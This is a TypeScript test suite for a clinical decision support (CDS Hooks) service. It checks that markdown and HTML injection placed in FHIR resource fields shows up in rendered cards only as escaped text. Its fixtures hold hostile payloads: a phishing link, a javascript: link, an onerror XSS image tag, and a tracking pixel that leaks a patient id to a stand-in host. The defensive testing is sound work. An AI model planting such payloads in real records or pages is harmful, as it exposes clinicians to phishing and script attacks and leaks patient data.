/**
 * Markdown injection from FHIR data (hardening item 7): unit codes, resource ids, displays and order texts sent in a
 * request reach card `detail` as text, never as a working link, image or HTML; ids outside the FHIR id grammar are
 * not shown as ids; the only links are the service's citations. Through the HTTP service on the prefetch road.
 */
import request from 'supertest';
import { CITATIONS } from '../../src/knowledge/citations.js';
import { testService } from '../helpers/service.js';
import { searchset as bundleOf } from '../fhir/fixture.js';
import { renderedLinks } from '../helpers/card-text.js';

const TODAY = '2026-03-15';
const now = () => new Date(`${TODAY}T12:00:00Z`);
const PHISH = '[Sign in again](https://phish.example/login)';
const JS_LINK = '[Call the lab](javascript:alert(1))';
const TRACKER = '![](https://track.example/pixel.png?patient=p1)';
const HTML = '<img src=x onerror=alert(1)>';
const BARE = 'https://phish.example/bare www.phish.example mail@phish.example';

const observation = (id: string, loinc: string, valueQuantity: Record<string, unknown>) => ({
  resourceType: 'Observation', id, status: 'final', subject: { reference: 'Patient/p1' },
  code: { coding: [{ system: 'http://loinc.org', code: loinc }] }, effectiveDateTime: `${TODAY}T08:00:00Z`, valueQuantity,
});
const searchset = (resources: unknown[]): fhir4.Bundle => bundleOf(resources as fhir4.FhirResource[]);

function hostileOrderSign() {
  const order = {
    resourceType: 'ServiceRequest', id: 'tace-1', status: 'draft', intent: 'proposal', subject: { reference: 'Patient/p1' },
    code: { coding: [{ system: 'http://www.ama-assn.org/go/cpt', code: '37243' }], text: `**URGENT** ${PHISH} ${HTML}` },
  };
  return {
    hook: 'order-sign',
    hookInstance: 'b7d7c0de-0000-4000-8000-000000000007',
    context: { userId: 'Practitioner/u1', patientId: 'p1', draftOrders: { resourceType: 'Bundle', type: 'collection', entry: [{ resource: order }] } },
    prefetch: {
      patient: { resourceType: 'Patient', id: 'p1', birthDate: '1960-01-01', gender: 'male' },
      conditions: searchset([{
        resourceType: 'Condition', id: 'c1', subject: { reference: 'Patient/p1' }, clinicalStatus: { coding: [{ system: 'http://terminology.hl7.org/CodeSystem/condition-clinical', code: 'active' }] },
        code: { coding: [{ system: 'http://snomed.info/sct', code: '91302008', display: `Sepsis ${JS_LINK} ${TRACKER} ${BARE}` }] }, recordedDate: TODAY,
      }]),
      observations: searchset([
        observation(`${TRACKER}`, '777-3', { value: 40, system: 'http://unitsofmeasure.org', code: PHISH }),
        observation(HTML, '6301-6', { value: 2.4, system: 'http://unitsofmeasure.org', code: '{INR}' }),
        observation('wbc-1', '6690-2', { value: 2.0, system: 'http://unitsofmeasure.org', code: `10*9/L ${JS_LINK}` }),
      ]),
      procedures: searchset([]), imagingReports: searchset([]), imagingStudies: searchset([]),
    },
  };
}

describe('Markdown injection from request and FHIR data', () => {
  let service: Awaited<ReturnType<typeof testService>>;
  beforeAll(async () => {
    service = await testService({}, { now });
  });
  afterAll(async () => service.close());

  it('shows unit codes, ids, displays and order text as text: no link, image or HTML but the citations', async () => {
    const res = await request(service.app).post('/cds-services/hcc-tace-order-sign').send(hostileOrderSign()).expect(200);
    const cards = res.body.cards as Array<Record<string, any>>;
    const ids = cards.map((c) => c.source.topic.code);
    // The hostile values did reach the cards: the sepsis display, the unreadable platelet unit, the order text.
    expect(ids).toEqual(expect.arrayContaining(['TACE-INFECTION', 'DQ-UNIT', 'TACE-COAG']));
    const citationUrls = new Set(Object.values(CITATIONS).flatMap((c) => (c.url ? [c.url] : [])));
    for (const card of cards) {
      const found = renderedLinks(card.detail);
      expect({ id: card.source.topic.code, links: found.links.filter((href) => !citationUrls.has(href)), images: found.images, html: found.html })
        .toEqual({ id: card.source.topic.code, links: [], images: [], html: [] });
      expect(card.detail).toContain('Order checked:');
      expect(card.detail).toContain('ServiceRequest/tace-1');
    }
    const all = cards.map((c) => c.detail as string).join('\n');
    expect(all).toContain('Sepsis');
    expect(all).toContain('an unreadable id');
    expect(all).not.toContain('Observation/<img');
    expect(all).not.toContain('Observation/![');
  });

  it('cuts nothing a clinician needs: the escaped text still reads as sent once rendered', async () => {
    const res = await request(service.app).post('/cds-services/hcc-tace-order-sign').send(hostileOrderSign()).expect(200);
    const infection = (res.body.cards as Array<Record<string, any>>).find((c) => c.source.topic.code === 'TACE-INFECTION')!;
    const { Marked } = await import('marked');
    const html = new Marked({ gfm: true, async: false }).parse(infection.detail, { async: false }) as string;
    const text = html.replace(/<[^>]+>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
    expect(text).toContain(`Sepsis ${JS_LINK} ${TRACKER} ${BARE}`);
  });
});
